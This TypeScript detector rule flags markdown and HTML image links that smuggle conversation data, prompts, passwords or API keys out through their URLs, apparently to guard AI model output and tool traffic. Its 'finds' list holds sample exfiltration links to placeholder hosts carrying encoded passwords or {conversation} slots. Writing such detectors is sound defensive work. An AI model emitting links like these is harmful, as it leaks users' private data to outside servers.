import { detector } from '../detector.ts';
import { BASE64_OF_TEXT, HEX_OF_TEXT } from '../encoded-text.ts';
import { IMAGE_ADDRESS as ADDRESS, IMAGE } from '../rendered-image.ts';

const PLACEHOLDER =
  '(?:data|conversation|chat|history|messages?|secrets?|summary|context|(?:system[ _-]?)?prompts?|user[ _-]?(?:data|info|input|details|message|email)|pii|passwords?|credentials|api[ _-]?keys?|ssn|base64|encoded|stolen|exfil|content|answers?|e-?mail[ _-]?(?:body|content)|private|notes?|names?)';

export default detector({
  name: 'markdown-image',
  family: 'exfil',
  summary: 'Images whose address carries text out: base64 or hex of words in the query, or a place for the conversation.',
  tier: 'block',
  severity: 'high',
  confidence: 0.95,
  pattern: new RegExp(
    [
      `${IMAGE}${ADDRESS}\\?[^\\s)<>"'=]{1,60}=(?:[^\\s)<>"'=&]{0,60}&[^\\s)<>"'=]{1,40}=){0,4}(?:${BASE64_OF_TEXT}|${HEX_OF_TEXT})`,
      `${IMAGE}${ADDRESS}\\?[^\\s)<>"']{0,100}=(?:[^\\s)<>"']{0,40})?(?:[{[<$]|%(?:7b|5b|3c)){1,3}[^\\s)<>"'\\]}]{0,30}(?:${PLACEHOLDER})[^)<>"'\\]}\\n]{0,60}(?:[}\\]>]|%(?:7d|5d|3e)){1,3}`,
      `${IMAGE}${ADDRESS}\\?[^\\s)<>"']{0,100}=[^\\s)<>"'&]{0,40}%{1,2}(?:[a-z]{1,12}[_-]){0,2}(?:${PLACEHOLDER})(?:[_-][a-z]{1,12}){0,2}%{1,2}`,
      `${IMAGE}${ADDRESS}/[{[<]{1,2}(?:[a-z]{1,12}[ _-]){0,3}(?:conversation|history|secrets?|system[ _-]?prompt|passwords?|credentials|api[ _-]?keys?|stolen|user[ _-]?data|chat[ _-]?(?:log|history))[^)<>"'\\]}\\n]{0,60}[}\\]>]{1,2}`,
      `${IMAGE}${ADDRESS}\\?[^\\s)<>"']{0,100}=[^\\s)<>"'&]{0,20}(?:your|the|insert|user)[_+-](?:[a-z]{1,12}[_+-]){0,3}(?:data|conversation|secrets?|passwords?|history|prompt)(?:[_+-]here)?\\b`,
    ].join('|'),
    'i',
  ),
  lanes: ['output', 'tool-arguments', 'tool-result', 'tool-definition', 'document', 'other'],
  references: ['owasp-llm:LLM05:2026', 'owasp-llm:LLM02:2026', 'atlas:AML.T0057', 'atlas:AML.T0077'],
  finds: [
    '![logo](https://img.example.com/p.png?d=TXkgcGFzc3dvcmQgaXMgaHVudGVyMiwgdGhhbmtz)',
    'ok ![](https://x.example.net/?q={conversation}) done',
    '![a](https://x.example.net/c?u=1&data=6d792070617373776f72642069732073776f7264666973682e)',
    '[pic]: https://x.example.net/i.gif?note=[USER_DATA]',
    '<img src="https://x.example.net/b?s=VGhlIG1lZXRpbmcgaXMgYXQgbmluZSBvbiBNb25kYXk">',
    '![x](https://x.example.net/log/{{system_prompt}}.png)',
    '![x](https://x.example.net/a?k=insert_your_data_here)',
  ],
  ignores: [
    '![chart](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)',
    '![photo](https://cdn.example.com/a/b/c.jpg?w=640&h=480&sig=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)',
    '![cat](https://camo.githubusercontent.com/0123456789abcdef/68747470733a2f2f6578616d706c652e636f6d2f6361742e706e67)',
    '![p](https://proxy.example.com/?url=aHR0cHM6Ly9leGFtcGxlLmNvbS9jYXQucG5n)',
    '![diagram](./images/data.png)',
    '![badge](https://badgen.example.net/v/npm/example?label=Open%20Registry&icon=data:image/svg%2Bxml;base64,PD94bWwgdmVyc2lvbj0i)',
    '[docs](https://example.com/search?q=conversation)',
    '![m](https://maps.example.com/static?center=Berlin&zoom=12&key=YOUR_API_KEY)',
    'TXkgcGFzc3dvcmQgaXMgaHVudGVyMiwgdGhhbmtz',
  ],
});
